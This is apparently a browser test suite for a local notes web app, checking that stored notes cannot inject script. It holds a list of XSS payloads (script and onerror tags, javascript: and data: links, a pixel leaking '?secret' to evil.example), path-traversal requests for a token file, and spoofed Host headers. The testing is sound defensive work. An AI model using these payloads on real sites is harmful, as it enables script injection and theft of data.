// Notes that attack whoever reads them: in titles, bodies, tags, file names, links, pictures and styles.
// Nothing runs, nothing is loaded, and the text is there to be read.

import { request } from 'node:http';
import { assert, open, quiet, run } from './support.mjs';

const BODIES = [
  '<script>window.hit=1</script>', '<img src=x onerror="window.hit=1">', '<svg onload="window.hit=1"><script>window.hit=1</script></svg>', '<style>body{display:none}</style>', '<link rel=stylesheet href=//evil.example/x.css>',
  '<iframe src="javascript:parent.hit=1"></iframe>', '<base href="https://evil.example/">', '<meta http-equiv=refresh content="0;url=https://evil.example/">', '<form action=https://evil.example><button id=main>x</button></form>', '<math><mtext><table><mglyph><style><img src onerror=window.hit=1>',
  '[a](javascript:window.hit=1)', '[b](JaVaScRiPt:window.hit=1)', '[c](java\tscript:window.hit=1)', '[d](&#106;avascript:window.hit=1)', '[e](data:text/html,<script>window.hit=1</script>)', '[f](vbscript:x)', '[g](//evil.example/x)', '[h](&#x6A;avascript&colon;alert(1))',
  '![p](https://evil.example/pixel.png?secret)', '![q](javascript:window.hit=1)', '[i](<javascript:window.hit=1>)', '<https://evil.example/auto>', '<javascript:window.hit=1>', '[[<img src=x onerror=window.hit=1>]]', '[[javascript:window.hit=1]]', '[x]: javascript:window.hit=1\n\n[x]',
  '```"><img src=x onerror=window.hit=1>\ncode\n```', '| <b onmouseover=window.hit=1>h</b> |\n|---|\n| <img src=x onerror=window.hit=1> |', '&lt;script&gt;window.hit=1&lt;/script&gt;', '<a href="javascript:window.hit=1" id=main class=danger style="position:fixed;inset:0">over all</a>', '"><script>window.hit=1</script>', "'-alert(1)-'",
];
const EVIL = '<img src=x onerror=window.hit=1>';

async function storedTextNeverRuns(served) {
  BODIES.forEach((body, i) => served.file(`attack-${i}.md`, `---\nname: ${JSON.stringify(`Attack ${i} ${EVIL}`)}\ndescription: ${JSON.stringify(`"><script>window.hit=1</script> ${EVIL}`)}\ntype: user\ntags: [${JSON.stringify(EVIL)}, ${JSON.stringify('"><svg onload=window.hit=1>')}]\n---\n\nneedle ${body}\n\n${body}\n`));
  served.file(`${'a"onmouseover="window.hit=1'}.md`, `---\nname: Odd file\ndescription: Its name attacks\ntype: user\n---\n\nneedle\n`);
  served.file('<img src=x onerror=hit=1>.md', `---\nname: Odder file\ndescription: Its name attacks\ntype: user\n---\n\nneedle [[attack-0]]\n`);
  served.loci('scratch', 'add', EVIL);
  served.loci('daily', 'add', EVIL, '--heading', EVIL);
  served.loci('write', 'attack-0', '--content', `changed ${EVIL}`);
  await served.start();
  const project = served.project();
  const page = await open(served);
  await page.exposeFunction('never', () => {});
  const unharmed = async (what) => {
    assert.equal(await page.evaluate(() => window.hit), undefined, `${what}: code ran`);
    const odd = await page.evaluate(() => [...document.querySelectorAll('script:not([src^="/web/"]), iframe, object, embed, base, link[rel=stylesheet]:not([href^="/web/"]), style, img, form[action], [onerror], [onload], [onmouseover], svg script, a[href^="javascript" i], a[href^="data" i], a[href^="vbscript" i]')].map((one) => one.outerHTML.slice(0, 120)));
    assert.deepEqual(odd, [], what);
    assert.equal(await page.evaluate(() => document.querySelectorAll('#main').length), 1, `${what}: an id was taken`);
  };
  await page.locator('.rows a.row').first().waitFor();
  await unharmed('the list');
  for (let i = 0; i < BODIES.length; i += 1) {
    await page.evaluate((where) => { history.pushState(null, '', where); dispatchEvent(new PopStateEvent('popstate')); }, `/note/-/global/attack-${i}.md`);
    await page.locator('article h1', { hasText: `Attack ${i} <img` }).waitFor();
    await page.locator('.markup').waitFor();
    for (const link of await page.locator('.markup a.outside').all()) assert.match(await link.getAttribute('href'), /^(https?|mailto):/);
    await unharmed(BODIES[i]);
  }
  for (const file of ['a"onmouseover="window.hit=1.md', '<img src=x onerror=hit=1>.md']) {
    await page.at(`/note/-/global/${encodeURIComponent(file)}`);
    await page.getByRole('heading', { name: /Odd/, level: 1 }).waitFor();
    await unharmed(file);
  }
  for (const [screen, words] of [['/notes?q=needle', 'found'], ['/timeline', 'Timeline'], ['/note/-/global/attack-0.md/history', 'revision'], [`/agent?project=${project}&prompt=${encodeURIComponent(`needle ${EVIL}`)}`, 'Persistent Memory'], ['/decide', 'To decide'], ['/upkeep', 'checked'], ['/graph', 'notes'], [`/calendar?project=${project}`, 'img src'], [`/scratch?project=${project}`, 'img src'], ['/note/-/global/attack-2.md/edit', 'Edit'], [`/notes?tag=${encodeURIComponent(EVIL)}`, 'img src'], [`/notes?q=${encodeURIComponent(EVIL)}`, 'note']]) {
    await page.at(screen);
    await page.getByText(words).first().waitFor();
    await page.waitForTimeout(150);
    await unharmed(screen);
  }
  await page.at('/note/-/global/attack-1.md/edit');
  await page.getByRole('button', { name: 'Preview' }).click();
  await page.locator('section[aria-label=Preview] .markup').waitFor();
  await unharmed('the preview');
  quiet(page);
}

async function thePolicyForbidsCodeOfOthers(served) {
  served.file('a.md', '---\nname: A\ndescription: A\ntype: user\n---\n\nA\n');
  await served.start();
  const page = await open(served);
  page.allowed.push(/./);
  await page.locator('.rows a.row').first().waitFor();
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script');
    try { script.textContent = 'window.inline = 1'; } catch { /* trusted types */ }
    document.body.append(script);
    const style = document.createElement('style');
    style.textContent = 'body { outline: 7px solid red }';
    document.head.append(style);
    let markup = 0;
    try { document.body.insertAdjacentHTML('beforeend', '<b>x</b>'); markup = 1; } catch { /* trusted types */ }
    const image = await new Promise((resolve) => { const one = new Image(); one.onload = () => resolve(1); one.onerror = () => resolve(0); one.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='; });
    await new Promise((resolve) => setTimeout(resolve, 100));
    return [window.inline ?? 0, getComputedStyle(document.body).outlineWidth === '7px' ? 1 : 0, markup, image];
  });
  assert.deepEqual(ran, [0, 0, 0, 0]);
  const answer = await fetch(`${served.url}/notes`);
  assert.doesNotMatch(answer.headers.get('content-security-policy'), /unsafe/);
  assert.match(answer.headers.get('content-security-policy'), /default-src 'none'/);
}

async function anotherSiteCannotUseTheCookie(served) {
  served.file('a.md', '---\nname: A\ndescription: A\ntype: user\n---\n\nA\n');
  await served.start();
  const page = await open(served);
  await page.locator('.rows a.row').first().waitFor();
  const [cookie] = await page.context().cookies();
  const by = (method, headers) => fetch(`${served.url}/api/memory/a`, { method, headers: { Cookie: `${cookie.name}=${cookie.value}`, ...headers } }).then((answer) => answer.status);
  assert.equal(await by('GET', {}), 200);
  assert.equal(await by('DELETE', {}), 403, 'a change needs the header');
  assert.equal(await by('DELETE', { 'X-Loci': 'page', Origin: 'http://evil.example' }), 403);
  assert.equal(await by('GET', { 'Sec-Fetch-Site': 'cross-site' }), 403);
  assert.equal(await by('GET', { Cookie: `${cookie.name}=${cookie.value.replace(/.$/, (last) => (last === '0' ? '1' : '0'))}` }), 401);
  assert.equal(await by('GET', { Cookie: `${cookie.name}=person.99999999999.` }), 401);
  assert.equal((await fetch(`${served.url}/web/../state/http-token`)).status >= 400, true);
  assert.equal((await fetch(`${served.url}/web/lib/..%2f..%2fstate/http-token`)).status, 404);
}

/** A request whose headers are all our own: fetch would not send another Host. */
const raw = (served, { method = 'GET', path = '/', headers = {}, body = '' }) => new Promise((resolve, reject) => {
  const asked = request({ host: '127.0.0.1', port: new URL(served.url).port, method, path, headers, setHost: false }, (answer) => {
    let text = '';
    answer.on('data', (data) => { text += data; });
    answer.on('end', () => resolve({ status: answer.statusCode, headers: answer.headers, text }));
  });
  asked.on('error', reject);
  asked.end(body);
});

async function aNameThatWasTurnedToThisMachineGetsNothing(served) {
  served.file('a.md', '---\nname: A\ndescription: A\ntype: user\n---\n\nSecret words.\n');
  await served.start();
  const page = await open(served);
  await page.locator('.rows a.row').first().waitFor();
  const [cookie] = await page.context().cookies();
  const mine = { Cookie: `${cookie.name}=${cookie.value}` };
  const { host, port } = new URL(served.url);
  for (const name of [`evil.example:${port}`, 'evil.example', `127.0.0.1.evil.example:${port}`, `localhost.evil.example:${port}`, `2130706433:${port}`, `0.0.0.0:${port}`, '']) {
    for (const path of ['/', '/notes', '/web/app.js', '/api/memory/a', '/api/events', '/api/openapi.json']) {
      const answer = await raw(served, { path, headers: { ...mine, Host: name } });
      assert.ok([400, 403].includes(answer.status), `${path} for ${name}: ${answer.status}`);
      assert.doesNotMatch(answer.text, /Secret words/);
    }
  }
  assert.equal((await raw(served, { path: '/api/memory/a', headers: { ...mine, Host: host } })).status, 200, 'the same with its own name');
  // Nor can another site sign this browser in, or read what is answered.
  const json = { 'Content-Type': 'application/json', Host: host };
  for (const headers of [{ Origin: 'http://evil.example' }, { Origin: 'null' }, { 'Sec-Fetch-Site': 'cross-site' }, { 'Sec-Fetch-Site': 'same-site', Origin: `http://127.0.0.1:${Number(port) + 1}` }]) {
    const answer = await raw(served, { method: 'POST', path: '/api/session', headers: { ...json, ...headers }, body: JSON.stringify({ token: served.token }) });
    assert.equal(answer.status, 403, JSON.stringify(headers));
    assert.equal(answer.headers['set-cookie'], undefined);
    assert.equal(answer.headers['access-control-allow-origin'], undefined);
  }
  // A form of another site can send text/plain without asking first.
  assert.equal((await raw(served, { method: 'POST', path: '/api/memory/undo', headers: { ...mine, Host: host, 'Content-Type': 'text/plain', 'X-Loci': 'page' }, body: '{"any":true}' })).status, 415);
  assert.equal((await raw(served, { method: 'OPTIONS', path: '/api/memory/a', headers: { Host: host, Origin: 'http://evil.example', 'Access-Control-Request-Method': 'DELETE' } })).headers['access-control-allow-origin'], undefined);
}

async function onlyAPersonErasesForGood(served) {
  served.loci('write', 'a', '--type', 'user', '--description', 'd', '--content', 'Secret words.');
  await served.start();
  const refused = await served.api('POST', '/api/memory/a/purge', { yes: true });
  assert.match(refused.error.message, /only a person can erase for good/);
  assert.match((await served.api('GET', '/api/memory/a')).text, /Secret words/);
}

await run({ storedTextNeverRuns, thePolicyForbidsCodeOfOthers, anotherSiteCannotUseTheCookie, aNameThatWasTurnedToThisMachineGetsNothing, onlyAPersonErasesForGood });
